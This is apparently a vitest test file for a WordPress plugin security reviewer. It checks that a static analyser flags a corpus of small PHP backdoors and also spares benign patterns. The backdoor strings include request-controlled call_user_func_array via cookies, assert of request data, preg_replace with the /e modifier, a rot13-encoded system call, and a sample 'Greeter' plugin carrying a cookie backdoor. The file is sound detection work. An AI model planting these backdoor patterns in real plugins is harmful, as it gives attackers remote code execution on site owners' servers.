import { describe, expect, it } from "vitest";
import { checkPluginFiles } from "../../../modules/plugins/checks/version-checks";
import { checkPhpFileUncached } from "../php-file-check";
import { hasEvalModifier } from "./code-strings";

/** The behaviour rules' findings for a PHP file with an ABSPATH guard, as `rule@line` (line 3 is the first of `code`). */
function behaviour(code: string): string[] {
  const check = checkPhpFileUncached(`<?php\ndefined( 'ABSPATH' ) || exit;\n${code}\n`);
  expect(check.syntax).toEqual({ ok: true });
  const rules = new Set(["request-callable", "request-include", "code-string", "set-cookie", "raw-network", "own-database", "wp.http-api", "wp.mail"]);
  return check.review.filter((f) => rules.has(f.rule)).map((f) => `${f.rule}@${f.line}${f.severity === "warning" ? " (warning)" : ""}`);
}

// Issue #30: each of these is a small backdoor or a way out that passed every check before.
describe("[WORDPRESS][REVIEW][BEHAVIOUR] the backdoor corpus: each fires on its line", () => {
  it.each([
    ["the issue's cookie backdoor", "add_action( 'init', function () {\n\tif ( isset( $_COOKIE['f'] ) ) {\n\t\tcall_user_func_array( $_COOKIE['f'], $_COOKIE['a'] );\n\t}\n} );", ["request-callable@5"]],
    ["call_user_func of a GET parameter", "function x_run() {\n\tcall_user_func( $_GET['cb'] );\n}", ["request-callable@4"]],
    ["a callable through a local variable and wp_unslash", "function x_run() {\n\t$cb = sanitize_text_field( wp_unslash( $_POST['cb'] ) );\n\t$args = $_POST['args'];\n\tcall_user_func_array( $cb, $args );\n}", ["request-callable@6"]],
    ["array_map with a request callback", "function x_run() {\n\treturn array_map( $_REQUEST['fn'], array( 'id' ) );\n}", ["request-callable@4"]],
    ["usort with a request comparator", "function x_sort( $rows ) {\n\t$by = $_GET['by'];\n\tusort( $rows, $by );\n\treturn $rows;\n}", ["request-callable@5"]],
    ["a filter hooked to a request callback", "add_filter( 'the_content', $_SERVER['HTTP_X_CB'] );", ["request-callable@3"]],
    ["a variable function", "function x_run() {\n\t$f = $_COOKIE['f'];\n\t$f( $_COOKIE['a'] );\n}", ["request-callable@5"]],
    ["a superglobal called directly", "$_GET['f']( $_GET['a'] );", ["request-callable@3"]],
    ["a variable method", "class X_Api {\n\tfunction run() {\n\t\t$m = $_POST['m'];\n\t\t$this->$m();\n\t}\n}", ["request-callable@6"]],
    ["an [object, method] pair named by the request", "class X_Api {\n\tfunction run() {\n\t\tcall_user_func( array( $this, $_POST['m'] ) );\n\t}\n}", ["request-callable@5"]],
    ["a variable static method", "function x_run() {\n\tX_Tools::{$_GET['m']}();\n}", ["request-callable@4"]],
    ["new of a request class", "function x_make() {\n\t$class = $_GET['type'];\n\treturn new $class( $_GET['arg'] );\n}", ["request-callable@5"]],
    ["a variable variable", "function x_set() {\n\t$name = $_GET['k'];\n\t$$name = 1;\n}", ["request-callable@5"]],
    ["a name from php://input", "function x_run() {\n\t$body = json_decode( file_get_contents( 'php://input' ), true );\n\tcall_user_func( $body['f'], $body['a'] );\n}", ["request-callable@5"]],
    ["a REST request's parameter", "function x_rest( WP_REST_Request $request ) {\n\treturn call_user_func( $request['f'], $request['a'] );\n}", ["request-callable@4"]],
    ["a REST get_param() in a closure", "add_action( 'rest_api_init', function () {\n\tregister_rest_route( 'x/v1', '/r', array( 'methods' => 'GET', 'permission_callback' => '__return_true', 'callback' => function ( $r ) {\n\t\treturn call_user_func( $r->get_param( 'f' ) );\n\t} ) );\n} );", ["request-callable@5"]],
    ["a callable carried into a closure", "$f = $_GET['f'];\nadd_action( 'init', function () use ( $f ) {\n\t$f();\n} );", ["request-callable@5"]],
    ["extract() of the request", "function x_run() {\n\textract( $_POST );\n\t$callback( $data );\n}", ["request-callable@5"]],
    ["a name in a risky family: 'shell_' . $x", "function x_run() {\n\tcall_user_func( 'shell_' . $_GET['x'], $_GET['c'] );\n}", ["request-callable@4"]],
    ["a check that guards nothing", "function x_run() {\n\tin_array( $_COOKIE['f'], array( 'a' ), true );\n\tcall_user_func_array( $_COOKIE['f'], $_COOKIE['a'] );\n}", ["request-callable@5"]],
    ["a check on one side of ||", "function x_run() {\n\t$f = $_GET['f'];\n\tif ( in_array( $f, array( 'a' ), true ) || current_user_can( 'read' ) ) {\n\t\t$f();\n\t}\n}", ["request-callable@6"]],
    ["a check in the other branch", "function x_run() {\n\t$f = $_GET['f'];\n\tif ( ! in_array( $f, array( 'a', 'b' ), true ) ) {\n\t\t$f();\n\t}\n}", ["request-callable@6"]],
    ["Closure::fromCallable of request data", "function x_run() {\n\t$c = Closure::fromCallable( $_GET['f'] );\n\t$c();\n}", ["request-callable@4"]],
    ["a runner kept in a variable", "function x_run() {\n\t$r = 'call_user_func_array';\n\t$r( $_COOKIE['f'], $_COOKIE['a'] );\n}", ["request-callable@5"]],
    ["assert() of request data", "function x_run() {\n\tassert( $_POST['x'] );\n}", ["code-string@4"]],
    ["assert() of a decoded string", "assert( str_rot13( 'flfgrz(\"vq\");' ) );", ["code-string@3"]],
    ["preg_replace with /e", "function x_run() {\n\treturn preg_replace( '/.*/e', $_POST['c'], 'x' );\n}", ["code-string@4"]],
    ["preg_replace with #…#ie in a list", "echo preg_replace( array( '/a/', '#(.+)#ie' ), array( 'b', '\\\\1' ), 'x' );", ["code-string@3"]],
    ["preg_replace with a request pattern", "function x_run() {\n\treturn preg_replace( $_GET['p'], $_GET['r'], 'x' );\n}", ["code-string@4"]],
    ["include of request data", "function x_page() {\n\tinclude plugin_dir_path( __FILE__ ) . 'views/' . $_GET['page'] . '.php';\n}", ["request-include@4"]],
    ["require_once of a variable from the request", "function x_page() {\n\t$view = wp_unslash( $_REQUEST['view'] );\n\trequire_once $view;\n}", ["request-include@5"]],
    ["setcookie", "function x_remember() {\n\tsetcookie( 'x_seen', '1', time() + 3600, '/' );\n}", ["set-cookie@4"]],
    ["setrawcookie", "setrawcookie( 'better-auth.session_token', 'abc', 0, '/api/billing' );", ["set-cookie@3"]],
    ["header( 'Set-Cookie…' )", "function x_h() {\n\theader( 'Set-Cookie: better-auth.session_token=' . 'abc' . '; Path=/' );\n}", ["set-cookie@4"]],
    ["header( \"set-cookie…\" ) with a variable part", "function x_h( $v ) {\n\theader( \"set-cookie: x={$v}\", false );\n}", ["set-cookie@4"]],
    ["setcookie by a callback runner", "call_user_func( 'setcookie', 'x', '1' );", ["set-cookie@3"]],
    ["setcookie through a variable", "$s = 'set' . 'cookie';\n$s( 'x', '1' );", ["set-cookie@4"]],
    ["fsockopen", "function x_ping() {\n\t$s = fsockopen( '127.0.0.1', 3306 );\n}", ["raw-network@4"]],
    ["pfsockopen", "pfsockopen( '127.0.0.1', 80 );", ["raw-network@3"]],
    ["stream_socket_client", "$s = stream_socket_client( 'tcp://127.0.0.1:6379' );", ["raw-network@3"]],
    ["stream_socket_server", "$s = stream_socket_server( 'tcp://0.0.0.0:9000' );", ["raw-network@3"]],
    ["socket_create and socket_connect", "$s = socket_create( AF_INET, SOCK_STREAM, SOL_TCP );\nsocket_connect( $s, '127.0.0.1', 80 );", ["raw-network@3", "raw-network@4"]],
    ["SoapClient", "function x_soap() {\n\t$c = new \\SoapClient( null, array( 'location' => 'http://127.0.0.1/', 'uri' => 'x' ) );\n}", ["raw-network@4"]],
    ["a class extending SoapClient", "class X_Soap extends SoapClient {}", ["raw-network@3"]],
    ["ftp_connect", "ftp_connect( 'ftp.example.com' );", ["raw-network@3"]],
    ["new mysqli", "$db = new mysqli( '127.0.0.1', 'root', '', 'mysql' );", ["own-database@3"]],
    ["mysqli_connect", "$db = mysqli_connect( 'localhost', 'root', '' );", ["own-database@3"]],
    ["mysqli_init and mysqli_real_connect", "$db = mysqli_init();\nmysqli_real_connect( $db, '127.0.0.1', 'root', '' );", ["own-database@3", "own-database@4"]],
    ["new PDO", "$pdo = new PDO( 'mysql:host=127.0.0.1', 'root', '' );", ["own-database@3"]],
    ["curl, as a warning", "$ch = curl_init( 'https://example.com' );\ncurl_exec( $ch );", ["wp.http-api@3 (warning)", "wp.http-api@4 (warning)"]],
    ["mail(), as a warning", "mail( 'a@example.com', 'Hi', 'Body' );", ["wp.mail@3 (warning)"]],
  ])("%s", (_, code, expected) => {
    expect(behaviour(code)).toEqual(expected);
  });

  it("says why and what to use instead, in plain text", () => {
    const check = checkPhpFileUncached("<?php\ndefined( 'ABSPATH' ) || exit;\ncall_user_func_array( $_COOKIE['f'], $_COOKIE['a'] );\nsetcookie( 'x', '1' );\nfsockopen( 'h', 1 );\nnew PDO( 'x' );\n");
    const messages = check.review.filter((f) => f.severity === "error").map((f) => f.message);
    expect(messages).toHaveLength(4);
    for (const message of messages) {
      expect(message).not.toMatch(/<[a-z/]/i);
      expect(message.length).toBeGreaterThan(80);
    }
    expect(messages[0]).toMatch(/request.*fixed list/s);
    expect(messages[1]).toMatch(/update_user_meta/);
    expect(messages[2]).toMatch(/wp_remote_get/);
    expect(messages[3]).toMatch(/\$wpdb/);
  });
});

describe("[WORDPRESS][REVIEW][BEHAVIOUR] calibration: what respected plugins do is not an error", () => {
  it.each([
    ["a constant callable", "call_user_func( 'x_setup' );\ncall_user_func_array( 'x_log', array( $_GET['a'] ?? '' ) );"],
    ["[ $this, 'method' ] with request arguments", "class X_A {\n\tfunction run() {\n\t\tcall_user_func( array( $this, 'save' ), absint( $_POST['id'] ) );\n\t}\n\tfunction save( $id ) {}\n}"],
    ["a hard-coded prefix and a request action", "function x_dispatch() {\n\t$action = sanitize_key( $_POST['do'] ?? '' );\n\t$method = 'ajax_' . $action;\n\tif ( method_exists( 'X_Ajax', $method ) ) call_user_func( array( 'X_Ajax', $method ) );\n}"],
    ["a prefix in a string", "function x_dispatch() {\n\t$tab = sanitize_key( $_GET['tab'] ?? 'general' );\n\tcall_user_func( \"x_render_{$tab}_tab\" );\n}"],
    ["a class constant prefix on a method", "class X_A {\n\tconst PREFIX = 'handle_';\n\tfunction run() {\n\t\t$this->{self::PREFIX . $_POST['step']}();\n\t}\n}"],
    ["a safelisted value", "function x_dispatch() {\n\t$action = sanitize_key( wp_unslash( $_POST['do'] ?? '' ) );\n\tif ( in_array( $action, array( 'save', 'load' ), true ) ) {\n\t\tcall_user_func( 'x_' . $action );\n\t\t$action();\n\t}\n}"],
    ["a safelist with an early exit", "function x_dispatch() {\n\t$m = $_POST['m'] ?? '';\n\tif ( ! in_array( $m, array( 'save', 'load' ), true ) ) {\n\t\twp_die( 'No' );\n\t}\n\t$this_obj = new X_Api();\n\t$this_obj->$m();\n}"],
    ["a map of handlers", "function x_dispatch() {\n\t$handlers = array( 'a' => 'x_a', 'b' => 'x_b' );\n\t$key = sanitize_key( $_GET['k'] );\n\tif ( isset( $handlers[ $key ] ) ) call_user_func( $handlers[ $key ] );\n}"],
    ["a switch", "function x_dispatch() {\n\t$f = $_GET['f'];\n\tswitch ( $f ) {\n\t\tcase 'x_a':\n\t\tcase 'x_b':\n\t\t\t$f();\n\t\t\tbreak;\n\t}\n}"],
    ["a class checked against its base classes", "function x_export() {\n\t$class = $_REQUEST['class'];\n\tif ( is_subclass_of( $class, 'X_Exporter' ) || is_subclass_of( $class, 'X_Legacy_Exporter' ) ) {\n\t\t$export = new $class();\n\t}\n}"],
    ["a ternary safelist", "function x_sort( $rows ) {\n\t$by = in_array( $_GET['by'] ?? '', array( 'x_by_date', 'x_by_name' ), true ) ? $_GET['by'] : 'x_by_date';\n\tusort( $rows, $by );\n\treturn $rows;\n}"],
    ["callbacks and closures that are not request data", "function x_run( $callback, $items ) {\n\t$items = array_map( 'absint', $items );\n\tusort( $items, function ( $a, $b ) { return $a <=> $b; } );\n\t$callback( $items );\n\treturn array_filter( $items, 'x_keep' );\n}"],
    ["a plugin's own lookup of the callable", "function x_run() {\n\t$cb = x_registry()->get( sanitize_key( $_GET['k'] ) );\n\tcall_user_func( $cb );\n}"],
    ["a template by a sanitized file name", "function x_page() {\n\t$view = sanitize_file_name( wp_unslash( $_GET['view'] ?? 'main' ) );\n\tinclude __DIR__ . '/views/' . basename( $view ) . '.php';\n}"],
    ["a template from a fixed list", "function x_page() {\n\t$tab = $_GET['tab'] ?? 'general';\n\tif ( ! in_array( $tab, array( 'general', 'advanced' ), true ) ) {\n\t\t$tab = 'general';\n\t\treturn;\n\t}\n\tinclude __DIR__ . \"/views/{$tab}.php\";\n}"],
    ["includes of the plugin's own files", "require_once plugin_dir_path( __FILE__ ) . 'includes/class-x.php';\ninclude __DIR__ . '/views/' . $view . '.php';"],
    ["assert() of a condition", "function x_check( $n ) {\n\tassert( $n > 0 );\n\tassert( is_array( $n ) );\n}"],
    ["preg_replace without e", "echo preg_replace( '/[^a-z]+/i', '-', 'Hello there' );\necho preg_replace( '#<e>#', '', 'x' );\necho preg_replace( '/x/u', 'e', 'x' );"],
    ["header() without a cookie", "header( 'Content-Type: application/json' );\nheader( 'X-Set-Cookie-Policy: none' );"],
    ["methods and words that only look alike", "class X_Mailer {\n\tfunction mail() {}\n\tfunction setcookie() {}\n}\n$m = new X_Mailer();\n$m->mail();\n$m->setcookie();\nwp_mail( 'a@b.c', 'Hi', 'Body' );\n$wpdb->get_results( 'SELECT 1' );\n// fsockopen( 'x', 1 ); new PDO( 'x' );\n$s = 'setcookie';"],
    ["wp_remote_get", "$r = wp_remote_get( 'https://example.com' );"],
  ])("%s", (_, code) => {
    expect(behaviour(code)).toEqual([]);
  });

  it("reads the e modifier only after the closing delimiter", () => {
    expect([hasEvalModifier("/a/e"), hasEvalModifier("{a}ie"), hasEvalModifier("(x)e"), hasEvalModifier("/e/"), hasEvalModifier("/x/u"), hasEvalModifier("abc")]).toEqual([true, true, true, false, false, false]);
  });
});

describe("[WORDPRESS][REVIEW][BEHAVIOUR] the version check", () => {
  it("fails a plugin holding the issue's backdoor, naming the file and line", () => {
    const files = {
      "greeter/greeter.php": "<?php\n/**\n * Plugin Name: Greeter\n */\ndefined( 'ABSPATH' ) || exit;\nadd_action( 'init', 'greeter_init' );\nfunction greeter_init() {\n\tif ( isset( $_COOKIE['f'] ) ) {\n\t\tcall_user_func_array( $_COOKIE['f'], $_COOKIE['a'] );\n\t}\n}\n",
    };
    const check = checkPluginFiles(files);
    expect(check.status).toBe("failed");
    expect(check.findings).toEqual([
      expect.objectContaining({ rule: "request-callable", severity: "error", file: "greeter/greeter.php", line: 9, link: "https://developer.wordpress.org/apis/security/data-validation/" }),
    ]);
  });
});
